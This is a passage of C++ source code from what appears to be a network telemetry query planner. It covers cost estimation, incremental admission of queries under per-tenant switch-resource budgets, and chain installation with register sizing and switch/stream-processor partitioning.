          min_agg = min_agg ? std::min(*min_agg, agg) : agg;
        }
      }
      // Scale by the margin so live windows with a little less traffic
      // than training still pass (and -1 so the training minimum itself
      // passes the strict `>`).
      if (min_agg) {
        const auto scaled = static_cast<std::uint64_t>(
            static_cast<double>(*min_agg) * relax_margin_);
        relaxed_[s][level] = scaled > 0 ? scaled - 1 : 0;
      }
    }
  }
}

std::optional<std::uint64_t> CostEstimator::relaxed_threshold(int source, int level) const {
  const auto& m = relaxed_.at(static_cast<std::size_t>(source));
  const auto it = m.find(level);
  if (it == m.end()) return std::nullopt;
  return it->second;
}

const query::Query& CostEstimator::winner_query(int level) {
  auto it = winner_queries_.find(level);
  if (it == winner_queries_.end()) {
    const auto sources = query_->sources();
    std::vector<std::shared_ptr<StreamNode>> per_source;
    for (std::size_t s = 0; s < sources.size(); ++s) {
      if (!has_stateful_op(*sources[s])) {
        per_source.push_back(nullptr);  // raw sources run at the finest level only
        continue;
      }
      RefineOptions opts;
      opts.level = level;
      opts.relaxed_threshold = relaxed_threshold(static_cast<int>(s), level);
      per_source.push_back(make_refined_node(*sources[s], keys_.at(s), opts));
    }
    it = winner_queries_.emplace(level, make_winner_query(*query_, level, per_source)).first;
  }
  return it->second;
}

const std::vector<Tuple>& CostEstimator::winners(int level, std::size_t w) {
  auto& per_window = winners_[level];
  if (per_window.empty()) {
    per_window.resize(windows_->size());
    const auto& lq = winner_query(level);
    const auto out_idx = lq.root()->output_schema().index_of(keys_.front().key_column);
    for (std::size_t wi = 0; wi < windows_->size(); ++wi) {
      stream::QueryExecutor exec(lq);
      for (const Tuple& t : (*windows_)[wi]) exec.ingest_source_tuple(t);
      util::FlatSet dedup;
      for (const Tuple& out : exec.end_window()) {
        if (!out_idx) continue;
        Tuple kt;
        kt.values.push_back(out.at(*out_idx));
        if (dedup.insert(kt)) per_window[wi].push_back(std::move(kt));
      }
    }
  }
  return per_window.at(w);
}

const TransitionCost& CostEstimator::transition(int source, int prev, int level) {
  const auto cache_key = std::make_tuple(source, prev, level);
  auto it = costs_.find(cache_key);
  if (it != costs_.end()) return it->second;

  const auto sources = query_->sources();
  const StreamNode& src = *sources.at(static_cast<std::size_t>(source));
  const RefinementKey& key = keys_.at(static_cast<std::size_t>(source));

  RefineOptions opts;
  opts.level = level;
  opts.prev_level = prev;
  opts.filter_table_name = "est";
  opts.relaxed_threshold = relaxed_threshold(source, level);
  auto refined = refinable_ ? make_refined_node(src, key, opts) : nullptr;
  const StreamNode& node = refined ? *refined : src;

  // Per-window costs, then medians.
  std::vector<std::vector<std::uint64_t>> n_samples(node.ops.size() + 1);
  std::map<std::size_t, std::vector<std::uint64_t>> key_samples;
  for (std::size_t w = 0; w < windows_->size(); ++w) {
    const std::vector<Tuple>* entries = nullptr;
    if (prev != kNoPrevLevel) entries = &winners(prev, w);
    const auto run = run_instrumented(node, (*windows_)[w], entries);
    for (std::size_t k = 0; k < run.n_after.size(); ++k) n_samples[k].push_back(run.n_after[k]);
    for (const auto& [op, keys] : run.stateful_keys) key_samples[op].push_back(keys);
  }

  TransitionCost cost;
  cost.n_after.reserve(n_samples.size());
  for (auto& s : n_samples) cost.n_after.push_back(util::median_u64(s));
  for (auto& [op, s] : key_samples) cost.stateful_keys[op] = util::median_u64(s);
  return costs_.emplace(cache_key, std::move(cost)).first->second;
}

}  // namespace sonata::planner
