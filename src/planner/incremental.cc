#include "planner/incremental.h"

#include <algorithm>
#include <cassert>

#include "pisa/compile.h"
#include "util/log.h"

namespace sonata::planner {

using query::Query;

std::string_view to_string(AdmissionDiagnostic::Code code) noexcept {
  switch (code) {
    case AdmissionDiagnostic::Code::kValidation: return "validation";
    case AdmissionDiagnostic::Code::kDuplicateQueryId: return "duplicate_query_id";
    case AdmissionDiagnostic::Code::kUnknownTenant: return "unknown_tenant";
    case AdmissionDiagnostic::Code::kUnknownHandle: return "unknown_handle";
    case AdmissionDiagnostic::Code::kStageBudget: return "stage_budget";
    case AdmissionDiagnostic::Code::kRegisterBudget: return "register_budget";
    case AdmissionDiagnostic::Code::kLayout: return "layout";
    case AdmissionDiagnostic::Code::kNoControlPlane: return "no_control_plane";
    case AdmissionDiagnostic::Code::kScript: return "script";
  }
  return "?";
}

std::string AdmissionDiagnostic::to_string() const {
  std::string out = "admission[" + std::string(planner::to_string(code)) + "]";
  if (!tenant.empty()) out += " tenant=" + tenant;
  if (!constraint.empty()) {
    out += " constraint=" + constraint + " budget=" + std::to_string(budget) +
           " in_use=" + std::to_string(in_use) + " required=" + std::to_string(required);
  }
  if (smallest_admitting) {
    out += " smallest_admitting={stages=" + std::to_string(smallest_admitting->stage_tables) +
           " bits=" + std::to_string(smallest_admitting->register_bits) + "}";
  }
  if (!message.empty()) out += ": " + message;
  return out;
}

IncrementalPlanner::IncrementalPlanner(PlannerConfig cfg, std::vector<TupleWindow> training)
    : cfg_(std::move(cfg)), windows_(std::move(training)) {
  window_packets_ = median_window_packets(windows_);
  tenants_.emplace("", TenantBudget{});  // the unlimited default tenant
}

void IncrementalPlanner::define_tenant(std::string_view name, TenantBudget budget) {
  tenants_.insert_or_assign(std::string(name), budget);
}

bool IncrementalPlanner::tenant_defined(std::string_view name) const {
  return tenants_.find(name) != tenants_.end();
}

TenantUsage IncrementalPlanner::tenant_usage(std::string_view name) const {
  TenantUsage usage;
  for (const auto& e : entries_) {
    if (e.tenant != name) continue;
    usage.stage_tables += e.footprint.tables;
    usage.register_bits += e.footprint.register_bits;
    ++usage.queries;
  }
  return usage;
}

std::vector<std::string> IncrementalPlanner::tenant_names() const {
  std::vector<std::string> out;
  out.reserve(tenants_.size());
  for (const auto& [name, budget] : tenants_) out.push_back(name);
  return out;
}

bool IncrementalPlanner::raw_active() const noexcept {
  return std::any_of(entries_.begin(), entries_.end(), [](const Entry& e) { return e.raw; });
}

bool IncrementalPlanner::budget_constrained() const {
  return std::any_of(entries_.begin(), entries_.end(), [&](const Entry& e) {
    const auto it = tenants_.find(e.tenant);
    return it != tenants_.end() && it->second.limited();
  });
}

Footprint IncrementalPlanner::footprint_of(const PlannedQuery& pq) {
  Footprint fp;
  for (const auto& p : pq.pipelines) {
    if (p.partition == 0) continue;
    const pisa::ProgramResources pr =
        pisa::build_resources(*p.node, p.partition, p.sizing, p.qid, p.source_index, p.level);
    fp.tables += pr.tables.size();
    fp.register_bits += pr.total_register_bits();
  }
  return fp;
}

void IncrementalPlanner::rebuild_resources() {
  res_.clear();
  for (const auto& e : entries_) {
    for (const auto& p : e.pq.pipelines) {
      if (p.partition == 0) continue;
      res_.push_back(
          pisa::build_resources(*p.node, p.partition, p.sizing, p.qid, p.source_index, p.level));
    }
  }
}

void IncrementalPlanner::recompute(bool allow_full_solve) {
  std::uint64_t sum_n = 0;
  std::uint64_t lower_bound = 0;
  bool raw = false;
  for (const auto& e : entries_) {
    sum_n += e.n;
    lower_bound += e.min_cost;
    raw = raw || e.raw;
  }
  objective_ = sum_n + (raw ? window_packets_ : 0);
  all_sp_cap_ = false;
  if (entries_.empty() || cfg_.mode == PlanMode::kAllSP || budget_constrained()) {
    // All-SP is already the raw layout; budget-constrained sets keep their
    // greedy in-order placements (deterministic fairness — a joint re-solve
    // has no tenant limits and could move an earlier tenant's resources).
    ++inc_solves_;
    return;
  }
  if (lower_bound >= window_packets_) {
    // From scratch, branch-and-bound cannot beat one window of raw packets
    // (every completion is >= the bound), so the all-raw fallback would
    // cap the plan. Skip the search entirely.
    all_sp_cap_ = true;
    objective_ = window_packets_;
    ++inc_solves_;
    return;
  }
  if (objective_ == lower_bound) {
    // Certified: every placement sits at its contention-free minimum, which
    // is what from-scratch branch-and-bound would also converge to.
    ++inc_solves_;
    return;
  }
  if (!allow_full_solve) {
    ++inc_solves_;
    return;
  }
  full_resolve();
}

void IncrementalPlanner::full_resolve() {
  // Joint re-solve in admission order with the *cached* installers: the
  // estimators (the expensive part) are reused, only the search re-runs.
  std::vector<const Query*> queries;
  std::vector<ChainInstaller*> installers;
  queries.reserve(entries_.size());
  installers.reserve(entries_.size());
  for (auto& e : entries_) {
    queries.push_back(e.q);
    installers.push_back(e.installer.get());
  }
  Plan plan = plan_joint(cfg_, queries, installers, window_packets_);
  assert(plan.queries.size() == entries_.size());
  for (std::size_t i = 0; i < entries_.size(); ++i) {
    Entry& e = entries_[i];
    e.pq = std::move(plan.queries[i]);
    e.n = e.pq.est_tuples;
    e.raw = std::any_of(e.pq.pipelines.begin(), e.pq.pipelines.end(),
                        [](const PlannedPipeline& p) { return p.partition == 0; });
    e.footprint = footprint_of(e.pq);
  }
  res_ = std::move(plan.resources);
  objective_ = plan.est_total_tuples;
  ++full_solves_;
}

util::Expected<AdmitId, AdmissionDiagnostic> IncrementalPlanner::admit(const Query& q,
                                                                       std::string_view tenant) {
  for (const auto& e : entries_) {
    if (e.q->id() == q.id()) {
      AdmissionDiagnostic d;
      d.code = AdmissionDiagnostic::Code::kDuplicateQueryId;
      d.tenant = std::string(tenant);
      d.message = "query id " + std::to_string(q.id()) + " is already active (\"" +
                  e.q->name() + "\")";
      return d;
    }
  }
  const auto tenant_it = tenants_.find(tenant);
  if (tenant_it == tenants_.end()) {
    AdmissionDiagnostic d;
    d.code = AdmissionDiagnostic::Code::kUnknownTenant;
    d.tenant = std::string(tenant);
    d.message = "tenant \"" + std::string(tenant) + "\" was never defined";
    return d;
  }
  const TenantBudget budget = tenant_it->second;
  const TenantUsage usage = tenant_usage(tenant);

  auto installer = std::make_unique<ChainInstaller>(cfg_, q, windows_, window_packets_);

  // Candidate chains by optimistic cost (stable: shorter chains win ties).
  std::vector<std::vector<int>> chains = installer->chains();
  std::vector<std::uint64_t> optimistic;
  optimistic.reserve(chains.size());
  std::uint64_t min_cost = ~std::uint64_t{0};
  for (const auto& chain : chains) {
    optimistic.push_back(installer->optimistic_cost(chain));
    min_cost = std::min(min_cost, optimistic.back());
  }
  std::vector<std::size_t> order(chains.size());
  for (std::size_t i = 0; i < order.size(); ++i) order[i] = i;
  std::stable_sort(order.begin(), order.end(),
                   [&](std::size_t a, std::size_t b) { return optimistic[a] < optimistic[b]; });

  InstallLimits limits;
  if (budget.limited()) {
    // Finite budgets forbid the raw mirror: mirroring consumes no switch
    // resources, so a budgeted tenant could otherwise never be rejected —
    // and its queries would silently become pure-SP load.
    limits.allow_mirror = false;
    limits.max_tables = budget.stage_tables == kUnlimited
                            ? kUnlimited
                            : budget.stage_tables - std::min(usage.stage_tables,
                                                             budget.stage_tables);
    limits.max_register_bits =
        budget.register_bits == kUnlimited
            ? kUnlimited
            : budget.register_bits - std::min(usage.register_bits, budget.register_bits);
  }

  // Greedy single-query placement over the existing layout: best chain by
  // realized cost, pruned by the optimistic bound.
  std::optional<Installed> best;
  std::uint64_t best_cost = ~std::uint64_t{0};
  const bool raw_before = raw_active();
  for (const std::size_t ci : order) {
    if (best && optimistic[ci] >= best_cost) break;  // sorted: no later chain can win
    const std::size_t mark = res_.size();
    auto inst = installer->install(chains[ci], res_, raw_before, /*force_all_sp=*/false, limits);
    res_.resize(mark);
    if (!inst) continue;
    const std::uint64_t cost = inst->n + ((inst->raw && !raw_before) ? window_packets_ : 0);
    if (cost < best_cost) {
      best_cost = cost;
      best = std::move(inst);
    }
  }

  if (!best) {
    // Diagnose: find the smallest switch-resident placement (single-level
    // chain, smallest feasible partitions), ignoring the tenant budget.
    InstallLimits probe;
    probe.allow_mirror = false;
    probe.minimize_footprint = true;
    const std::size_t mark = res_.size();
    auto minimal = installer->install({installer->estimator().finest_level()}, res_, raw_before,
                                      /*force_all_sp=*/false, probe);
    res_.resize(mark);
    AdmissionDiagnostic d;
    d.tenant = std::string(tenant);
    if (!minimal) {
      d.code = AdmissionDiagnostic::Code::kLayout;
      d.constraint = "layout";
      d.message = "query \"" + q.name() +
                  "\" has no switch-resident placement: the stage layout cannot host it at any "
                  "partition (switch full)";
      return d;
    }
    const Footprint fp = minimal->footprint;
    d.smallest_admitting =
        TenantBudget{usage.stage_tables + fp.tables, usage.register_bits + fp.register_bits};
    const std::uint64_t remaining_tables =
        budget.stage_tables - std::min(usage.stage_tables, budget.stage_tables);
    if (budget.stage_tables != kUnlimited && fp.tables > remaining_tables) {
      d.code = AdmissionDiagnostic::Code::kStageBudget;
      d.constraint = "stage_tables";
      d.budget = budget.stage_tables;
      d.in_use = usage.stage_tables;
      d.required = fp.tables;
      d.message = "query \"" + q.name() + "\" needs " + std::to_string(fp.tables) +
                  " match-action tables; tenant has " + std::to_string(remaining_tables) +
                  " of " + std::to_string(budget.stage_tables) + " left";
    } else if (budget.register_bits != kUnlimited) {
      const std::uint64_t remaining_bits =
          budget.register_bits - std::min(usage.register_bits, budget.register_bits);
      d.code = AdmissionDiagnostic::Code::kRegisterBudget;
      d.constraint = "register_bits";
      d.budget = budget.register_bits;
      d.in_use = usage.register_bits;
      d.required = fp.register_bits;
      d.message = "query \"" + q.name() + "\" needs " + std::to_string(fp.register_bits) +
                  " register bits; tenant has " + std::to_string(remaining_bits) + " of " +
                  std::to_string(budget.register_bits) + " left";
    } else {
      d.code = AdmissionDiagnostic::Code::kLayout;
      d.constraint = "layout";
      d.message = "query \"" + q.name() +
                  "\" cannot be placed within the tenant budget on the current layout";
    }
    return d;
  }

  // Commit: append the winning placement's resources and record the entry.
  for (const auto& p : best->pq.pipelines) {
    if (p.partition == 0) continue;
    res_.push_back(
        pisa::build_resources(*p.node, p.partition, p.sizing, p.qid, p.source_index, p.level));
  }
  Entry e;
  e.id = next_id_++;
  e.q = &q;
  e.tenant = std::string(tenant);
  e.installer = std::move(installer);
  e.pq = std::move(best->pq);
  e.n = best->n;
  e.raw = best->raw;
  e.footprint = best->footprint;
  e.min_cost = min_cost;
  const AdmitId id = e.id;
  entries_.push_back(std::move(e));
  recompute(/*allow_full_solve=*/true);
  SONATA_INFO("planner", "admitted \"%s\" (handle %llu, tenant \"%s\"): objective=%llu",
              q.name().c_str(), static_cast<unsigned long long>(id),
              entries_.back().tenant.c_str(), static_cast<unsigned long long>(objective_));
  return id;
}

util::Expected<util::Ok, AdmissionDiagnostic> IncrementalPlanner::withdraw(AdmitId id) {
  const auto it = std::find_if(entries_.begin(), entries_.end(),
                               [&](const Entry& e) { return e.id == id; });
  if (it == entries_.end()) {
    AdmissionDiagnostic d;
    d.code = AdmissionDiagnostic::Code::kUnknownHandle;
    d.message = "handle " + std::to_string(id) + " is not an active query";
    return d;
  }
  SONATA_INFO("planner", "withdrawing \"%s\" (handle %llu)", it->q->name().c_str(),
              static_cast<unsigned long long>(id));
  entries_.erase(it);
  // Reclaim: earliest-fit layout is monotone, so the remaining placements
  // stay feasible with the withdrawn segments gone.
  rebuild_resources();
  recompute(/*allow_full_solve=*/true);
  return util::Ok{};
}

Plan IncrementalPlanner::snapshot_plan() {
  Plan plan;
  if (all_sp_cap_) {
    // The certified fallback layout: everything at the SP behind one raw
    // mirror (what from-scratch planning would emit).
    std::vector<pisa::ProgramResources> res;
    std::vector<PlannedQuery> pqs;
    bool raw = false;
    for (auto& e : entries_) {
      auto inst = e.installer->install({e.installer->estimator().finest_level()}, res, raw,
                                       /*force_all_sp=*/true);
      assert(inst.has_value());
      raw = raw || inst->raw;
      pqs.push_back(std::move(inst->pq));
    }
    plan = assemble_plan(cfg_, std::move(pqs), std::move(res), raw, window_packets_,
                         entries_.empty() ? 0 : window_packets_);
  } else {
    std::vector<PlannedQuery> pqs;
    pqs.reserve(entries_.size());
    for (const auto& e : entries_) pqs.push_back(e.pq);
    plan = assemble_plan(cfg_, std::move(pqs), res_, raw_active(), window_packets_, objective_);
  }
  plan.version = ++version_;
  return plan;
}

const Query* IncrementalPlanner::query(AdmitId id) const noexcept {
  for (const auto& e : entries_) {
    if (e.id == id) return e.q;
  }
  return nullptr;
}

std::string_view IncrementalPlanner::tenant_of(AdmitId id) const noexcept {
  for (const auto& e : entries_) {
    if (e.id == id) return e.tenant;
  }
  return {};
}

}  // namespace sonata::planner
