#include "planner/install.h"

#include <algorithm>
#include <bit>
#include <cassert>
#include <functional>

#include "pisa/compile.h"
#include "util/rng.h"

namespace sonata::planner {

using pisa::ProgramResources;
using pisa::RegisterSizing;
using query::Query;
using query::StreamNode;

namespace {

std::size_t pow2_at_least(std::size_t n) { return std::bit_ceil(std::max<std::size_t>(n, 1)); }

// Enumerate increasing chains over `levels` (finest = levels.back()), each
// ending at the finest level, of length <= max_len.
std::vector<std::vector<int>> enumerate_chains(const std::vector<int>& levels, int max_len) {
  std::vector<std::vector<int>> chains;
  const std::size_t coarse = levels.size() - 1;  // all but finest
  const std::size_t subsets = std::size_t{1} << coarse;
  for (std::size_t mask = 0; mask < subsets; ++mask) {
    std::vector<int> chain;
    for (std::size_t i = 0; i < coarse; ++i) {
      if (mask & (std::size_t{1} << i)) chain.push_back(levels[i]);
    }
    chain.push_back(levels.back());
    if (static_cast<int>(chain.size()) <= max_len) chains.push_back(std::move(chain));
  }
  // Prefer shorter chains at equal cost (less detection delay).
  std::sort(chains.begin(), chains.end(),
            [](const auto& a, const auto& b) { return a.size() < b.size(); });
  return chains;
}

}  // namespace

std::string filter_table_name(query::QueryId qid, int source, int level) {
  return "q" + std::to_string(qid) + ".s" + std::to_string(source) + ".L" +
         std::to_string(level) + ".ref";
}

ChainInstaller::ChainInstaller(const PlannerConfig& cfg, const Query& q,
                               const std::vector<TupleWindow>& windows,
                               std::uint64_t window_packets)
    : cfg_(&cfg),
      q_(&q),
      owned_(std::make_unique<CostEstimator>(q, windows, cfg.ip_levels, cfg.dns_levels,
                                             cfg.relax_margin)),
      est_(owned_.get()),
      window_packets_(window_packets) {}

ChainInstaller::ChainInstaller(const PlannerConfig& cfg, const Query& q, CostEstimator* est,
                               std::uint64_t window_packets)
    : cfg_(&cfg), q_(&q), est_(est), window_packets_(window_packets) {
  assert(est_ != nullptr);
}

std::vector<std::vector<int>> ChainInstaller::chains() {
  if (!est_->refinable()) return {{est_->finest_level()}};
  switch (cfg_->mode) {
    case PlanMode::kAllSP:
    case PlanMode::kFilterDP:
    case PlanMode::kMaxDP:
      return {{est_->finest_level()}};
    case PlanMode::kFixRef:
      return {est_->levels()};
    case PlanMode::kSonata:
      return enumerate_chains(est_->levels(), cfg_->max_delay_windows);
  }
  return {{est_->finest_level()}};
}

std::uint64_t ChainInstaller::optimistic_cost(const std::vector<int>& chain) {
  const auto sources = q_->sources();
  std::uint64_t total = 0;
  for (std::size_t s = 0; s < sources.size(); ++s) {
    const bool stateful_src = has_stateful_op(*sources[s]);
    int prev = kNoPrevLevel;
    for (const int level : chain) {
      // Raw sources (no stateful ops) execute at the finest level only
      // (winner-query semantics; see make_winner_query).
      if (!stateful_src && level != chain.back()) {
        prev = level;
        continue;
      }
      const TransitionCost& cost = est_->transition(static_cast<int>(s), prev, level);
      const std::size_t max_p = max_partition(static_cast<int>(s), prev, level);
      total += max_p > 0 ? cost.n_after[max_p] : 0;
      prev = level;
    }
  }
  return total;
}

std::size_t ChainInstaller::max_partition(int source, int prev, int level) {
  const auto key = std::make_tuple(source, prev, level);
  auto it = max_partition_cache_.find(key);
  if (it != max_partition_cache_.end()) return it->second;
  const auto node = refined_node(source, prev, level);
  const std::size_t p = pisa::max_switch_prefix(*node);
  max_partition_cache_.emplace(key, p);
  return p;
}

std::shared_ptr<StreamNode> ChainInstaller::refined_node(int source, int prev, int level) {
  const auto key = std::make_tuple(source, prev, level);
  auto it = node_cache_.find(key);
  if (it != node_cache_.end()) return it->second;
  const auto sources = q_->sources();
  std::shared_ptr<StreamNode> node;
  if (est_->refinable()) {
    RefineOptions opts;
    opts.level = level;
    opts.prev_level = prev;
    opts.filter_table_name = filter_table_name(q_->id(), source, level);
    opts.relaxed_threshold = est_->relaxed_threshold(source, level);
    node = make_refined_node(*sources.at(static_cast<std::size_t>(source)),
                             est_->keys().at(static_cast<std::size_t>(source)), opts);
  } else {
    // Unrefined: share a validated copy of the original source chain.
    node = std::make_shared<StreamNode>(*sources.at(static_cast<std::size_t>(source)));
  }
  node_cache_.emplace(key, node);
  return node;
}

// Partition choices to try, best (deepest) first, honoring mode limits.
std::vector<std::size_t> ChainInstaller::partition_choices(const StreamNode& node,
                                                           std::size_t max_p,
                                                           bool force_all_sp) const {
  if (force_all_sp) return {0};
  switch (cfg_->mode) {
    case PlanMode::kAllSP:
      return {0};
    case PlanMode::kFilterDP: {
      // Longest prefix of filter/filter_in operators only.
      std::size_t p = 0;
      while (p < max_p && (node.ops[p].kind == query::OpKind::kFilter ||
                           node.ops[p].kind == query::OpKind::kFilterIn)) {
        ++p;
      }
      std::vector<std::size_t> out;
      for (std::size_t k = p + 1; k-- > 0;) out.push_back(k);
      return out;
    }
    default: {
      std::vector<std::size_t> out;
      for (std::size_t k = max_p + 1; k-- > 0;) out.push_back(k);
      return out;
    }
  }
}

// Expected number of keys (out of `k` random keys) that fail to find a
// slot in a d-deep chain of n-entry registers — the collision-overflow
// model used when a register must be sized below the planner's target
// (paper §3.3 "Monitoring traffic dynamics": n and d are chosen to keep
// collision rates low; overflow packets are corrected at the SP and
// therefore priced into the objective). Monte-Carlo, memoized.
std::uint64_t ChainInstaller::estimate_overflow_keys(std::uint64_t k, std::size_t n, int d) {
  if (k == 0) return 0;
  const auto cache_key = std::make_tuple(k / 512, n, d);
  const auto it = overflow_cache_.find(cache_key);
  if (it != overflow_cache_.end()) return it->second;
  const util::HashFamily hashes(static_cast<std::size_t>(d));
  std::vector<std::vector<bool>> occupied(static_cast<std::size_t>(d),
                                          std::vector<bool>(n, false));
  util::Rng rng(0xc0111de + k);
  std::uint64_t overflowed = 0;
  for (std::uint64_t i = 0; i < k; ++i) {
    const std::uint64_t key = rng();
    bool stored = false;
    for (std::size_t di = 0; di < occupied.size() && !stored; ++di) {
      auto slot = occupied[di].begin() + static_cast<std::ptrdiff_t>(hashes.index(di, key, n));
      // Distinct keys only collide with *other* keys here (random keys
      // are unique w.h.p.), matching the exact-key-store semantics.
      if (!*slot) {
        *slot = true;
        stored = true;
      }
    }
    overflowed += stored ? 0 : 1;
  }
  overflow_cache_.emplace(cache_key, overflowed);
  return overflowed;
}

std::optional<Installed> ChainInstaller::install(const std::vector<int>& chain,
                                                 std::vector<ProgramResources>& res,
                                                 bool raw_already, bool force_all_sp,
                                                 const InstallLimits& limits) {
  const Query& q = *q_;
  const auto sources = q.sources();
  const std::size_t res_mark = res.size();

  Installed inst;
  inst.pq.base = &q;
  inst.pq.refined = est_->refinable() && chain.size() > 1;
  inst.pq.chain = chain;
  if (est_->refinable()) inst.pq.keys = est_->keys();

  for (std::size_t s = 0; s < sources.size(); ++s) {
    const bool stateful_src = has_stateful_op(*sources[s]);
    int prev = kNoPrevLevel;
    for (const int level : chain) {
      if (!stateful_src && level != chain.back()) {
        prev = level;  // raw sources join in at the finest level only
        continue;
      }
      const auto node = refined_node(static_cast<int>(s), prev, level);
      const TransitionCost& cost = est_->transition(static_cast<int>(s), prev, level);
      const std::size_t max_p = max_partition(static_cast<int>(s), prev, level);

      PlannedPipeline pipeline;
      pipeline.qid = q.id();
      pipeline.source_index = static_cast<int>(s);
      pipeline.level = level;
      pipeline.prev_level = prev;
      pipeline.node = node;
      if (prev != kNoPrevLevel) {
        pipeline.filter_table = filter_table_name(q.id(), static_cast<int>(s), level);
      }

      // Register sizing for every stateful op in the (potential) prefix:
      // target headroom * training keys, capped by the per-register
      // memory limit. A capped register overflows some keys; those keys'
      // packets are priced into the partition cost below.
      std::map<std::size_t, RegisterSizing> sizing;
      std::map<std::size_t, std::uint64_t> overflow_extra;  // op -> extra N
      for (const auto& [op_idx, keys] : cost.stateful_keys) {
        const int entry_bits =
            pisa::stateful_key_bits(*node, op_idx) +
            (node->ops[op_idx].kind == query::OpKind::kDistinct ? 1 : 32);
        RegisterSizing rs;
        rs.depth = cfg_->register_depth;
        std::size_t cap = 1;
        while (cap * 2 * static_cast<std::uint64_t>(entry_bits) <=
               cfg_->switch_config.max_bits_per_register) {
          cap *= 2;
        }
        if (q.state_spec().sketch() && node->ops[op_idx].kind == query::OpKind::kReduce) {
          // Sketched reduce: HashPipe-backed registers are sized from the
          // accuracy target, not the training cardinality — O(1/eps) slots
          // catch every key heavier than eps * total weight regardless of
          // how many distinct keys the window carries. HashPipe never
          // overflows to the SP (evictions surface as a reported error
          // bound), so no overflow_extra is priced in.
          rs.sketch = true;
          rs.depth = std::max(cfg_->register_depth, 2);  // d-stage pipeline
          const double eps = std::max(q.state_spec().eps, 1e-6);
          const std::size_t want = pow2_at_least(std::max(
              cfg_->min_register_entries, static_cast<std::size_t>(2.0 / eps)));
          rs.entries = std::min(want, cap);
          sizing[op_idx] = rs;
          continue;
        }
        const std::size_t want = pow2_at_least(std::max(
            cfg_->min_register_entries,
            static_cast<std::size_t>(cfg_->register_headroom * static_cast<double>(keys))));
        rs.entries = std::min(want, cap);
        sizing[op_idx] = rs;
        if (rs.entries < want && keys > 0) {
          const std::uint64_t lost = estimate_overflow_keys(keys, rs.entries, rs.depth);
          // Every packet of an overflowed key reaches the SP; assume the
          // average packets-per-key of the operator's input.
          const std::uint64_t pkts_in = op_idx < cost.n_after.size() ? cost.n_after[op_idx] : 0;
          overflow_extra[op_idx] =
              keys == 0 ? 0 : lost * (pkts_in / std::max<std::uint64_t>(keys, 1));
        }
      }
      pipeline.sizing = sizing;

      // Cheapest feasible partition (cost = reported tuples + overflow
      // penalty of on-switch stateful ops; partition 0 costs the shared
      // raw mirror once). Feasible = fits the stage layout AND stays
      // within the install's remaining table/register-bit limits.
      // minimize_footprint flips the objective: smallest feasible
      // partition, resources before cost.
      bool placed = false;
      std::uint64_t best_cost = ~std::uint64_t{0};
      std::size_t best_p = 0;
      auto choices = partition_choices(*node, max_p, force_all_sp);
      if (limits.minimize_footprint) std::reverse(choices.begin(), choices.end());
      for (const std::size_t p : choices) {
        std::uint64_t contribution;
        if (p == 0) {
          if (!limits.allow_mirror) continue;
          contribution = (raw_already || inst.raw) ? 0 : window_packets_;
        } else {
          ProgramResources pr =
              pisa::build_resources(*node, p, sizing, q.id(), static_cast<int>(s), level);
          const std::uint64_t tables = pr.tables.size();
          const std::uint64_t bits = pr.total_register_bits();
          if (inst.footprint.tables + tables > limits.max_tables ||
              inst.footprint.register_bits + bits > limits.max_register_bits) {
            continue;
          }
          res.push_back(pr);
          const bool fits = pisa::assign_stages(cfg_->switch_config, res).feasible;
          res.pop_back();
          if (!fits) continue;
          contribution = p < cost.n_after.size() ? cost.n_after[p] : 0;
          for (const auto& [op_idx, extra] : overflow_extra) {
            if (op_idx < p) contribution += extra;
          }
        }
        if (limits.minimize_footprint) {
          best_cost = contribution;
          best_p = p;
          placed = true;
          break;  // choices are smallest-first here: take the first feasible
        }
        if (contribution < best_cost) {
          best_cost = contribution;
          best_p = p;
          placed = true;
        }
      }
      if (!placed) {
        res.resize(res_mark);
        return std::nullopt;
      }
      pipeline.partition = best_p;
      if (best_p == 0) {
        pipeline.est_tuples = 0;  // covered by the shared raw mirror
        inst.raw = true;
      } else {
        pipeline.est_tuples = best_cost;
        inst.n += best_cost;
        ProgramResources pr = pisa::build_resources(*node, best_p, sizing, q.id(),
                                                    static_cast<int>(s), level);
        inst.footprint.tables += pr.tables.size();
        inst.footprint.register_bits += pr.total_register_bits();
        res.push_back(std::move(pr));
      }
      inst.pq.pipelines.push_back(std::move(pipeline));
      prev = level;
    }
  }
  inst.pq.est_tuples = inst.n;
  return inst;
}

Plan assemble_plan(const PlannerConfig& cfg, std::vector<PlannedQuery> queries,
                   std::vector<ProgramResources> resources, bool raw_mirror,
                   std::uint64_t window_packets, std::uint64_t objective) {
  Plan plan;
  plan.switch_config = cfg.switch_config;
  plan.mode = cfg.mode;
  plan.window = cfg.window;
  plan.queries = std::move(queries);
  plan.resources = std::move(resources);
  plan.raw_mirror = raw_mirror;
  plan.est_window_packets = window_packets;
  plan.est_total_tuples = objective;
  plan.layout = pisa::assign_stages(cfg.switch_config, plan.resources);

  // Executable per-level queries. Coarse levels get the winner query
  // (stateful sub-queries only, no post-join operators); the finest level
  // gets the full tree. Both substitute the chosen pipelines' augmented
  // nodes so SP execution matches the switch programs exactly.
  for (std::size_t qi = 0; qi < plan.queries.size(); ++qi) {
    auto& pq = plan.queries[qi];
    pq.exec_queries.clear();  // stale from a previous assembly of this placement
    pq.source_remap.clear();
    const auto base_sources = pq.base->sources();
    for (const int level : pq.chain) {
      const bool finest = level == pq.chain.back();
      std::vector<std::shared_ptr<StreamNode>> per_source(base_sources.size());
      for (const auto& p : pq.pipelines) {
        if (p.level == level) {
          per_source.at(static_cast<std::size_t>(p.source_index)) = p.node;
        }
      }
      std::vector<int> remap(base_sources.size(), -1);
      if (finest) {
        int counter = 0;
        std::function<query::StreamNodePtr(const StreamNode&)> clone =
            [&](const StreamNode& node) -> query::StreamNodePtr {
          if (node.kind == StreamNode::Kind::kSource) {
            return per_source.at(static_cast<std::size_t>(counter++));
          }
          auto out = std::make_shared<StreamNode>();
          out->kind = StreamNode::Kind::kJoin;
          out->join_keys = node.join_keys;
          out->left = clone(*node.left);
          out->right = clone(*node.right);
          out->ops = node.ops;
          return out;
        };
        Query exec(pq.base->name() + "@L" + std::to_string(level), pq.base->id(),
                   pq.base->window(), clone(*pq.base->root()));
        exec.set_state_spec(pq.base->state_spec());
        const std::string err = exec.validate();
        assert(err.empty());
        (void)err;
        pq.exec_queries.emplace(level, std::move(exec));
        for (std::size_t s = 0; s < remap.size(); ++s) remap[s] = static_cast<int>(s);
      } else {
        // Winner query: per_source is null exactly for raw sources.
        pq.exec_queries.emplace(level, make_winner_query(*pq.base, level, per_source));
        int next = 0;
        for (std::size_t s = 0; s < remap.size(); ++s) {
          remap[s] = per_source[s] ? next++ : -1;
        }
      }
